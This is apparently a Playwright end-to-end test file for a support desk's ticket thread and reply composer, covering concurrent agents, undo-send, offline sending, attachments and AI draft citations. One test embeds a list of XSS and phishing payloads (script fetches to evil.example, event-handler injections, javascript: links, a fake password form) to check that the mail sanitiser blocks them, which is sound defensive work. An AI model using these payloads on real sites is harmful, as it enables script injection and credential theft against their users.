"""A ticket's conversation and its composer: two agents at once, hostile mail, nothing lost and nothing sent twice."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from typing import Any, cast
from uuid import uuid4

import psycopg
import pytest
from playwright.sync_api import Locator, Page, Route, WebSocketRoute, expect
from psycopg.rows import DictRow, dict_row

from tests.web.conftest import PHONE, Opened, Site, shot, violations

OpenPage = Callable[..., Page]
# What of the page is the conversation and its composer.
PARTS = ("[class*=_scroller_]", "[class*=_foot_]")
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360606060000000050001a5f64540"
    "0000000049454e44ae426082"
)


class Lab:
    """Tickets of contacts who are there for one test only."""

    def __init__(self, site: Site, database: psycopg.Connection[DictRow]) -> None:
        self.site, self.database = site, database
        self.organization = str(site.desk.organization_id)
        self.rest = site.rest("maya@kestrel-outdoor.example")

    def call(self, function: str, /, **values: Any) -> Any:
        answer = self.rest.post(f"/rpc/{function}", json=values)
        assert answer.is_success, answer.text
        return answer.json() if answer.content else None

    def ticket(
        self, body: str = "Where is my parcel?", subject: str = "A parcel", name: str = "Ada Byron"
    ) -> dict[str, Any]:
        contact = self.call(
            "upsert_contact", organization_id=self.organization, email=f"{uuid4().hex}@people.example", name=name
        )
        ticket = self.call(
            "open_ticket", organization_id=self.organization, subject=subject, body=body, contact_id=contact["id"]
        )
        return cast("dict[str, Any]", ticket)

    def says(self, ticket: dict[str, Any], body: str) -> None:
        """The contact writes again."""
        answer = self.rest.post(
            "/messages",
            json={
                "organization_id": self.organization, "ticket_id": ticket["id"], "sender": "contact",
                "contact_id": ticket["contact_id"], "body_text": body,
            },
        )  # fmt: skip
        assert answer.is_success, answer.text

    def rows(self, query: str, **values: Any) -> list[DictRow]:
        return self.database.execute(query, values).fetchall()

    def bodies(self, ticket: dict[str, Any]) -> list[str]:
        found = self.rows("select body_text from public.messages where ticket_id = %(id)s order by id", id=ticket["id"])
        return [row["body_text"] for row in found]

    def html(self, ticket: dict[str, Any], html: str) -> None:
        """What no cleaner has seen: as if one had let it pass."""
        self.database.execute(
            "update public.messages set body_html = %(html)s, reply_text = null where ticket_id = %(id)s",
            {"html": html, "id": ticket["id"]},
        )

    def draft(self, ticket: dict[str, Any], body: str, sentence: str) -> str:
        """The AI's, resting on a passage of the knowledge base."""
        row = self.rows(
            """
            with article as (
              select a.id, v.id as version_id from public.articles as a
              join public.article_versions as v on v.id = a.current_version_id
              where a.organization_id = %(organization)s limit 1
            ), passage as (
              insert into public.chunks
                (organization_id, article_id, version_id, ordinal, language, title, heading, text, tokens)
              select %(organization)s, id, version_id, 900 + floor(random() * 9000)::int, 'en', 'Parcels', 'Late ones',
                'A late parcel is looked for.', 8
              from article returning *
            ), draft as (
              insert into public.drafts
                (organization_id, ticket_id, message_id, seen_seq, decision, reasons, confidence, source, body_text)
              select %(organization)s, m.ticket_id, m.id, 1, 'draft', '{sender_not_verified}', 0.83, 'extract', %(body)s
              from public.messages as m where m.ticket_id = %(ticket)s order by m.id limit 1
              on conflict (organization_id, message_id) do update
              set body_text = excluded.body_text, status = 'open', confidence = 0.83, reasons = excluded.reasons
              returning id
            ), forgotten as (
              delete from public.draft_citations where draft_id in (select id from draft)
            )
            insert into public.draft_citations
              (organization_id, draft_id, ordinal, sentence, chunk_id, version_id, article_id, support)
            select %(organization)s, draft.id, 77, %(sentence)s, passage.id, passage.version_id, passage.article_id, 0.9
            from draft, passage returning draft_id
            """,
            organization=self.organization, ticket=ticket["id"], body=body, sentence=sentence,
        )  # fmt: skip
        return str(row[0]["draft_id"])

    def open(self, page: Page, ticket: dict[str, Any]) -> None:
        page.goto(f"{self.site.inbox}/ticket/{ticket['number']}")
        expect(page.get_by_role("heading", name=f"#{ticket['number']}")).to_be_visible()
        expect(thread(page).get_by_role("article").first).to_be_visible()


@pytest.fixture
def lab(site: Site) -> Iterator[Lab]:
    with psycopg.connect(site.settings.database_url("postgres"), row_factory=dict_row, autocommit=True) as database:
        found = Lab(site, database)
        yield found
        found.rest.close()


def thread(page: Page) -> Locator:
    return page.get_by_role("region", name="Conversation")


def messages(page: Page) -> Locator:
    return thread(page).get_by_role("article")


def field(page: Page, name: str = "Write a reply") -> Locator:
    return page.get_by_role("textbox", name=name, exact=True)


def is_sent(page: Page, text: str) -> None:
    """It stands there as what the desk has."""
    expect(thread(page).locator("[data-seq]").filter(has_text=text)).to_be_visible()
    expect(thread(page).get_by_text("Sending…")).to_have_count(0)


def test_two_agents_see_each_other_and_neither_answers_over_what_was_not_seen(
    lab: Lab, open_page: OpenPage, opened: Opened
) -> None:
    opened.expected.append("409")
    ticket = lab.ticket()
    ines, tom = open_page("ines"), open_page("tom")
    lab.open(ines, ticket)
    lab.open(tom, ticket)
    expect(ines.get_by_text("Tom Okafor is looking at this too")).to_be_visible()
    expect(tom.get_by_text("Inês Duarte is looking at this too")).to_be_visible()

    field(tom).press_sequentially("It is", delay=10)
    expect(ines.get_by_text("Tom Okafor is writing a reply…")).to_be_visible()
    field(tom).fill("")

    # A note of one is there for the other at once, apart from what the customer sees.
    tom.get_by_role("button", name="Note", exact=False).first.click()
    field(tom, "Write a note").fill("I know this carrier")
    tom.keyboard.press("ControlOrMeta+Enter")
    expect(messages(ines).filter(has_text="I know this carrier").get_by_text("Internal note")).to_be_visible()

    # What comes while a reply waits has not been seen by its writer.
    field(ines).fill("It is on its way.")
    ines.keyboard.press("ControlOrMeta+Enter")
    lab.says(ticket, "Found it, thank you!")
    field(ines).press("ControlOrMeta+Enter")
    refused = messages(ines).filter(has_text="It is on its way.")
    expect(refused.get_by_text("Not sent: a message has come that you had not seen.")).to_be_visible()
    expect(messages(ines).filter(has_text="Found it, thank you!")).to_be_visible()
    assert "It is on its way." not in lab.bodies(ticket)
    refused.get_by_role("button", name=re.compile("Send all the same|Show what is new")).first.click()
    again = refused.get_by_role("button", name="Send all the same")
    if again.is_visible():
        again.click()
    expect(messages(tom).filter(has_text="It is on its way.")).to_be_visible()
    expect(ines.get_by_role("button", name="Undo")).to_have_count(0)
    assert lab.bodies(ticket).count("It is on its way.") == 1


def test_a_reply_is_begun_kept_sent_and_taken_back(lab: Lab, agent: Page) -> None:
    ticket = lab.ticket(name="Grace Hopper")
    lab.rest.post(
        "/canned_responses",
        json={
            "organization_id": lab.organization, "shortcut": "late", "title": "Late parcel",
            "body": "Hi {{contact.first_name|there}}, we look for it.",
        },
    )  # fmt: skip
    lab.open(agent, ticket)
    agent.keyboard.press("r")
    expect(field(agent)).to_be_focused()
    agent.keyboard.type("/la")
    expect(agent.get_by_role("option", name="/late")).to_be_visible()
    agent.keyboard.press("Enter")
    expect(field(agent)).to_have_value("Hi Grace, we look for it.")

    agent.reload()
    expect(field(agent)).to_have_value("Hi Grace, we look for it.")
    field(agent).press("ControlOrMeta+Enter")
    expect(field(agent)).to_have_value("")
    messages(agent).filter(has_text="we look for it").get_by_role("button", name="Undo").click()
    expect(field(agent)).to_have_value("Hi Grace, we look for it.")
    assert lab.bodies(ticket) == ["Where is my parcel?"]

    # Whoever leaves the page has sent it: the wait ends there, and it is sent once.
    field(agent).press("ControlOrMeta+Enter")
    expect(messages(agent).get_by_role("button", name="Undo")).to_be_visible()
    agent.reload()
    expect(messages(agent).filter(has_text="Hi Grace, we look for it.")).to_be_visible()
    expect(agent.get_by_role("status").filter(has_text="Sending")).to_have_count(0)
    assert lab.bodies(ticket).count("Hi Grace, we look for it.") == 1
    expect(field(agent)).to_have_value("")


HOSTILE = """
<script>parent.hacked = 1; fetch("https://evil.example/script")</script>
<img src="https://evil.example/x.png" onerror="parent.hacked = 2">
<img src="x" onerror="parent.hacked = 3">
<svg onload="parent.hacked = 4"><script>parent.hacked = 5</script></svg>
<style>@import url(https://evil.example/a.css); body { display: none; background: url(https://evil.example/b) }</style>
<link rel="stylesheet" href="https://evil.example/c.css"><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/d">
<div style="position: fixed; inset: 0; z-index: 99999; background: red; width: 100vw; height: 100vh">covered</div>
<div style="background-image: url(https://evil.example/e)">text</div>
<form action="https://evil.example/f"><input name="password"><button>Sign in</button></form>
<iframe src="https://evil.example/g"></iframe><object data="https://evil.example/h"></object>
<video src="https://evil.example/i" poster="https://evil.example/j" autoplay></video>
<a href="javascript:parent.hacked = 6">script</a> <a href="data:text/html,<script>1</script>">data</a>
<a href="https://good.example/page">good</a>
<details open ontoggle="parent.hacked = 7"><summary>s</summary></details>
<p>Last words</p>
"""


def test_a_hostile_mail_runs_nothing_loads_nothing_and_covers_nothing(lab: Lab, agent: Page, opened: Opened) -> None:
    # Already where it is read in order to be cleaned, the page's policy says no.
    opened.expected.append("Content Security Policy")
    ticket = lab.ticket()
    lab.html(ticket, HOSTILE)
    asked: list[str] = []

    def elsewhere(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(body=PIXEL, content_type="image/png")

    agent.context.route("**://*.example/**", elsewhere)
    lab.open(agent, ticket)
    frame = messages(agent).first.locator("iframe")
    inside = frame.content_frame
    expect(inside.get_by_text("Last words")).to_be_visible()
    for link in inside.get_by_role("link").all():
        assert link.get_attribute("href") == "https://good.example/page"
        assert "noopener" in (link.get_attribute("rel") or "")
    expect(
        inside.locator("script, style, form, input, iframe, object, svg, video, meta[http-equiv=refresh]")
    ).to_have_count(0)
    box, around = frame.bounding_box(), messages(agent).first.bounding_box()
    assert box is not None
    assert around is not None
    assert box["y"] >= around["y"]
    assert box["y"] + box["height"] <= around["y"] + around["height"] + 1
    # What is around it is still there to be pressed.
    agent.get_by_role("button", name="Attach files").click(trial=True)
    assert "allow-scripts" not in (frame.get_attribute("sandbox") or "")
    assert agent.evaluate("window.hacked") is None
    assert asked == []

    # Pictures from elsewhere load when they are allowed, and nothing else does.
    agent.get_by_role("button", name="Load them").click()
    expect(inside.locator("img[src^='https://evil.example']")).to_have_count(1)
    expect(inside.get_by_text("Last words")).to_be_visible()
    agent.wait_for_function("() => !document.querySelector('[aria-busy=true]')")
    assert set(asked) <= {"https://evil.example/x.png"}
    assert agent.evaluate("window.hacked") is None


def test_the_ai_s_draft_shows_its_sources_and_goes_out_by_one_key(lab: Lab, open_page: OpenPage) -> None:
    agent = open_page("ines", viewport={"width": 1200, "height": 900})
    ticket = lab.ticket()
    sentence = "We look for late parcels."
    draft = lab.draft(ticket, f"{sentence} [1]\n\n[1] Parcels", sentence)
    lab.open(agent, ticket)
    card = agent.get_by_role("region", name="AI draft")
    expect(card.get_by_text("83% sure")).to_be_visible()
    expect(card.get_by_text("the sender may be somebody else")).to_be_visible()
    card.get_by_role("button", name="Source 1: Parcels").first.click()
    expect(card.get_by_text("A late parcel is looked for.")).to_be_visible()
    shot(agent, "thread-draft")
    assert violations(agent, *PARTS) == []

    # Edited: it is gone on with in the composer, and the desk learns what became of it.
    agent.keyboard.press("w")
    expect(field(agent)).to_have_value(f"{sentence} [1]\n\n[1] Parcels")
    field(agent).fill("We found it.")
    field(agent).press("ControlOrMeta+Enter")
    agent.get_by_role("button", name="Undo").wait_for()
    expect(card).to_have_count(0)
    field(agent).press("ControlOrMeta+Enter")
    is_sent(agent, "We found it.")
    kept = lab.rows("select verdict, final_text from public.draft_feedback where draft_id = %(id)s", id=draft)
    assert [(row["verdict"], row["final_text"]) for row in kept] == [("edited", "We found it.")]


@pytest.mark.full
def test_a_long_thread_is_read_upwards_without_a_jump(lab: Lab, agent: Page) -> None:
    ticket = lab.ticket("Message 1")
    lab.database.execute(
        """
        insert into public.messages (organization_id, ticket_id, sender, contact_id, body_text, created_at)
        select %(organization)s, %(ticket)s, 'contact', %(contact)s,
          'Message ' || n || repeat(E'\\nline', n %% 5), now()
        from generate_series(2, 130) as n
        """,
        {"organization": lab.organization, "ticket": ticket["id"], "contact": ticket["contact_id"]},
    )
    lab.call("mark_read", ticket_id=ticket["id"])
    agent.goto(f"{lab.site.inbox}/ticket/{ticket['number']}")
    expect(messages(agent).filter(has_text=re.compile("Message 130(?!\\d)"))).to_be_visible()
    # What is new begins above: a first look finds the line, the end is a key away.
    agent.keyboard.press("End")
    expect(messages(agent).filter(has_text=re.compile("Message 130(?!\\d)"))).to_be_in_viewport()
    for count in (60, 90, 120, 130):
        # To the very top: what stood there stands there still when older ones have come above it.
        first = messages(agent).first.get_attribute("data-seq")
        thread(agent).evaluate("element => { element.scrollTop = 0 }")
        expect(messages(agent)).to_have_count(count)
        expect(thread(agent).locator(f"[data-seq='{first}']")).to_be_in_viewport()
    expect(messages(agent)).to_have_count(130)
    numbers = [int(re.search(r"Message (\d+)", text).group(1)) for text in messages(agent).all_inner_texts()]  # type: ignore[union-attr]
    assert numbers == list(range(1, 131))


@pytest.mark.full
def test_files_are_dropped_pasted_chosen_and_sent(lab: Lab, agent: Page) -> None:
    ticket = lab.ticket()
    lab.open(agent, ticket)
    agent.locator("input[type=file]").set_input_files({"name": "Größe.png", "mimeType": "image/png", "buffer": PIXEL})
    drop = """(element, [kind, name]) => {
        const data = new DataTransfer();
        data.items.add(new File(["some words"], name, { type: "text/plain" }));
        const event = kind === "paste"
          ? new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true })
          : new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true });
        element.dispatchEvent(event);
    }"""
    field(agent).evaluate(drop, ["paste", "pasted.txt"])
    field(agent).evaluate(drop, ["drop", "dropped.txt"])
    for name in ("Größe.png", "pasted.txt", "dropped.txt"):
        expect(agent.get_by_role("button", name=f"Remove {name}")).to_be_visible()
    agent.get_by_role("button", name="Remove dropped.txt").click()
    expect(agent.get_by_text("10 byte")).to_be_visible()
    field(agent).fill("Here they are")
    agent.reload()
    expect(field(agent)).to_have_value("Here they are")
    expect(agent.get_by_role("button", name="Remove pasted.txt")).to_be_visible()
    field(agent).press("ControlOrMeta+Enter")
    sent = messages(agent).filter(has_text="Here they are")
    expect(sent.get_by_role("button", name="Download pasted.txt")).to_be_visible(timeout=20_000)
    with agent.expect_download() as download:
        sent.get_by_role("button", name="Download pasted.txt").click()
    assert download.value.path().read_text() == "some words"
    picture = sent.get_by_role("button", name=re.compile(r"(Open|Download) Gro_e\.png|(Open|Download) Gro.*png"))
    expect(picture).to_be_visible(timeout=20_000)


@pytest.mark.full
def test_a_note_names_people_and_a_macro_does_its_steps(lab: Lab, agent: Page) -> None:
    ticket = lab.ticket()
    lab.rest.post(
        "/macros",
        json={
            "organization_id": lab.organization, "name": f"Lab {ticket['number']}",
            "actions": [{"do": "note", "body": "The macro was here"}, {"do": "add_tags", "tags": ["lab"]}],
        },
    )  # fmt: skip
    lab.open(agent, ticket)
    agent.keyboard.press("n")
    agent.keyboard.type("Ask @tom")
    agent.keyboard.press("Enter")
    expect(field(agent, "Write a note")).to_have_value("Ask @Tom Okafor ")
    agent.keyboard.type("please")
    agent.keyboard.press("ControlOrMeta+Enter")
    is_sent(agent, "Ask @Tom Okafor please")
    [note] = [body for body in lab.bodies(ticket) if body.startswith("Ask")]
    assert re.fullmatch(r"Ask @\[Tom Okafor\]\([0-9a-f-]{36}\) please", note)
    agent.get_by_role("button", name="Run a macro").click()
    agent.get_by_role("menuitem", name=f"Lab {ticket['number']}").click()
    expect(messages(agent).filter(has_text="The macro was here")).to_be_visible()


@pytest.mark.full
def test_what_cannot_be_sent_is_kept_and_goes_out_once_the_network_is_back(
    lab: Lab, agent: Page, opened: Opened
) -> None:
    opened.expected += ["ERR_INTERNET_DISCONNECTED", "WebSocket", "Failed to fetch"]
    ticket = lab.ticket()
    lab.open(agent, ticket)
    agent.context.set_offline(True)
    lab.says(ticket, "Said while you were away")
    field(agent).fill("Sent without a network")
    # A note, which nothing holds back: the reply would be refused over what was said meanwhile.
    agent.keyboard.press("Escape")
    agent.keyboard.press("n")
    field(agent, "Write a note").fill("Noted without a network")
    agent.keyboard.press("ControlOrMeta+Enter")
    note = messages(agent).filter(has_text="Noted without a network")
    expect(note.get_by_text("You are offline. It goes out when you are back.")).to_be_visible()
    agent.context.set_offline(False)
    expect(messages(agent).filter(has_text="Said while you were away")).to_be_visible(timeout=15_000)
    expect(note.get_by_text("offline")).to_have_count(0)
    expect(note).to_be_visible()
    assert lab.bodies(ticket).count("Noted without a network") == 1
    agent.get_by_role("button", name="Reply", exact=False).first.click()
    expect(field(agent)).to_have_value("Sent without a network")


@pytest.mark.full
def test_send_resolve_and_next(lab: Lab, agent: Page) -> None:
    ticket = lab.ticket()
    lab.open(agent, ticket)
    field(agent).fill("Done")
    field(agent).press("ControlOrMeta+Alt+Enter")
    expect(thread(agent).get_by_text(re.compile("Inês Duarte set the status to Solved"))).to_be_visible(timeout=15_000)


@pytest.mark.full
def test_on_a_phone_and_from_right_to_left(lab: Lab, open_page: OpenPage) -> None:
    ticket = lab.ticket()
    lab.html(ticket, '<p>Hi</p><table width="900"><tr><td>wide</td></tr></table>')
    phone = open_page("ines", viewport=PHONE, locale="ar")
    phone.goto(f"{lab.site.inbox}/ticket/{ticket['number']}")
    expect(phone.get_by_role("article").first).to_be_visible()
    assert phone.evaluate("document.documentElement.dir") == "rtl"
    assert phone.evaluate("document.documentElement.scrollWidth <= innerWidth")
    shot(phone, "thread-phone-ar")
    assert violations(phone, *PARTS) == []


@pytest.mark.full
def test_nothing_is_missed_when_the_token_runs_out_or_the_line_is_cut(lab: Lab, open_page: OpenPage) -> None:
    ticket = lab.ticket()
    page = open_page("ines")
    lines: list[WebSocketRoute] = []

    def line(route: WebSocketRoute) -> None:
        lines.append(route)
        route.connect_to_server()

    page.route_web_socket(re.compile("/realtime/v1/"), line)
    lab.open(page, ticket)
    expect(page.get_by_role("status").filter(has_text="offline")).to_have_count(0)

    # As the desk does with a token that has run out: every channel is closed, and the session is over.
    page.evaluate(
        """() => {
          const key = Object.keys(localStorage).find(each => each.endsWith("-auth-token"));
          const kept = JSON.parse(localStorage.getItem(key));
          localStorage.setItem(key, JSON.stringify({ ...kept, expires_at: 1 }));
        }"""
    )
    topics = [f"org:{lab.organization}", f"ticket:{ticket['id']}:agents", f"ticket:{ticket['id']}:contact"]
    for topic in topics:
        lines[-1].send(json.dumps([None, None, f"realtime:{topic}", "phx_close", {}]))
    lab.says(ticket, "Said while nobody was listening")
    expect(messages(page).filter(has_text="Said while nobody was listening")).to_be_visible()
    lab.says(ticket, "Said when it listened again")
    expect(messages(page).filter(has_text="Said when it listened again")).to_be_visible()

    lines[-1].close(code=1006)
    lab.says(ticket, "Said while the line was cut")
    expect(messages(page).filter(has_text="Said while the line was cut")).to_be_visible()
    tom = open_page("tom")
    lab.open(tom, ticket)
    expect(page.get_by_text("Tom Okafor is looking at this too")).to_be_visible(timeout=30_000)
    texts = [text for text in messages(page).all_inner_texts() if "Said" in text]
    assert len(texts) == 3
